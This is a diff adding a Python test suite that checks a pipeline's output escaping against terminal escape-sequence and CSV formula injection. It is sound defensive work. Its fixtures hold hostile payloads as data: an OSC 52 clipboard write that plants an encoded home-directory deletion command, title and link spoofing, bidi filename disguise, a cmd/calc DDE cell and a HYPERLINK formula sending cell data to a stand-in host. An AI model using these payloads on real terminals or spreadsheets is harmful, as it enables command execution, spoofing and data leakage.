@@ -1,0 +1,139 @@
+"""What others wrote never steers the terminal of whoever reads it, in whatever form it is printed."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import logging
+import unicodedata
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from rich.text import Text
+
+from infra.escaping import VisibleFormatter, csv_cell, lines, one_line, visible, visible_json
+from pipelines.present.output import Report, Rows, Texts, show, table
+from pipelines.present.record_text import as_line
+from pipelines.present.token_colours import Tokens, coloured
+from pipelines.present.view.console import Visible, console
+
+STEERING = {
+    "clear screen": "\x1b[2J\x1b[1;1H",
+    "clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
+    "title": "\x1b]0;root@here\x1b\\\\",
+    "link": "\x1b]8;;https://elsewhere.invalid\x1b\\\\here\x1b]8;;\x1b\\\\",
+    "eight-bit CSI": "\x9b2J",
+    "eight-bit OSC": "\x9d0;title\x9c",
+    "device query": "\x1bP+q\x1b\\\\",
+    "backspaces": "lost 3\b\b\b\b\b\b",
+    "carriage return": "lost 3\rlost 0",
+    "bell, NUL, delete": "\x07\x00\x7f",
+    "vertical tab, form feed": "\x0b\x0c",
+    "shift out": "\x0e\x0f",
+    "bidirectional override": "\u202egnp.exe\u202c",
+    "bidirectional isolate": "\u2066\u2069",
+    "marks": "\u200e\u200f\u061c",
+    "line separators": "a\u2028b\u2029c",
+    "invisible tags": "\U000e0041\U000e007f",
+    "annotations": "\ufff9\ufffb",
+}
+EVIL = "ok " + " ".join(STEERING.values())
+
+
+def steers(text: str, kept: str = "\n\t") -> list[str]:
+    """What in `text` a terminal may act upon, or that changes the order of what is read."""
+    kinds = ("Cc", "Zl", "Zp", "Cs")
+    bidi = ("RLO", "LRO", "RLE", "LRE", "PDF", "RLI", "LRI", "FSI", "PDI")
+    return [
+        c
+        for c in text
+        if c not in kept
+        and (unicodedata.category(c) in kinds or unicodedata.bidirectional(c) in bidi or c in "\u200e\u200f")
+    ]
+
+
+def rows(form: str) -> Rows:
+    row = {"name": "p1.0", EVIL: 1, "text": EVIL, "nested": [{"text": EVIL}], "length": 3}
+    return Rows([[row]], None, form, line=lambda row: f"{row['name']} {row['text']}")  # type: ignore[arg-type]
+
+
+PRINTED: dict[str, Callable[[], object]] = {
+    **{form: lambda form=form: rows(form) for form in ("table", "lines", "json", "jsonl", "csv")},  # type: ignore[misc]
+    "report": lambda: Report({"text": EVIL}, lambda: EVIL),
+    "report, JSON": lambda: Report({"text": EVIL}, str, as_json=True),
+    "rich text": lambda: Texts([Text(EVIL), Text.assemble(("bold " + EVIL, "bold"))]),
+    "table's title": lambda: Texts([table([{"text": EVIL}], ["text"], title=EVIL)]),
+    "tokens": lambda: Texts(coloured(Tokens([1], [EVIL], [-0.05], [True], ["0.1"]), "none")),
+    "a record's line": lambda: Texts(
+        [as_line({"partition": 0, "offset": 1, "ts": 0, "schema": EVIL, "key": EVIL, "rows": [], "error": None})]
+    ),
+    "a record's error": lambda: Texts(
+        [as_line({"partition": 0, "offset": 1, "ts": 0, "schema": "", "key": "", "size": 3, "rows": [], "error": EVIL})]
+    ),
+}
+
+
+@pytest.mark.parametrize("what", PRINTED)
+def test_nothing_printed_steers_a_terminal(what: str, capsys: pytest.CaptureFixture[str]) -> None:
+    show(PRINTED[what]())
+    printed = capsys.readouterr().out
+    assert "ok " in printed
+    assert steers(printed, "\n\t\0" if what == "lines" else "\n\t") == []  # NUL: for xargs -0
+
+
+@pytest.mark.parametrize("terminal", [True, False])
+def test_a_console_steers_by_its_own_styles_alone(terminal: bool) -> None:
+    for part in (EVIL, Text(EVIL), table([{"text": EVIL}], ["text"]), Visible(Text(EVIL))):
+        out = io.StringIO()
+        console(file=out, force_terminal=terminal, width=4000, soft_wrap=True).print(
+            part, highlight=False, markup=False
+        )
+        assert steers(Text.from_ansi(out.getvalue()).plain.replace("\x1b", "")) == []
+        assert "\x1b]" not in out.getvalue()
+        assert "[2J" in out.getvalue()  # spelt out, and still to be read
+
+
+@pytest.mark.parametrize("spell", [visible, one_line, lines, csv_cell])
+@given(text=st.text())
+def test_any_text_is_made_visible(spell: Callable[[str], str], text: str) -> None:
+    shown = spell(text)
+    assert steers(shown, {visible: "\n\t", one_line: "", lines: "\n\t\0", csv_cell: "\n\t"}[spell]) == []
+    if text.isprintable() and spell is not csv_cell:
+        assert shown == text
+
+
+@given(value=st.text())
+def test_visible_json_means_the_same(value: str) -> None:
+    shown = visible_json(json.dumps({value: [value]}, ensure_ascii=False))
+    assert steers(shown) == []
+    assert json.loads(shown) == {value: [value]}
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1)",
+        "\t=1",
+        "\n=1",
+        "  =1",
+        "'=1",
+        '"=1',
+        "\uff1d1+1",
+    ],
+)
+def test_a_csv_cell_is_no_formula_unless_it_is_asked_for_raw(cell: str, capsys: pytest.CaptureFixture[str]) -> None:
+    for form in ("csv", "csv-raw"):
+        show(Rows([[{"text": cell, "reward": -0.5}]], None, form))  # type: ignore[arg-type]
+        written = next(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+        assert written == {"text": f"'{cell}" if form == "csv" else cell, "reward": "-0.5"}
+
+
+def test_log_lines_are_visible() -> None:
+    record = logging.LogRecord("score", logging.WARNING, __file__, 1, "the verifier raised %s", (EVIL,), None)
+    assert steers(VisibleFormatter("%(message)s").format(record)) == []
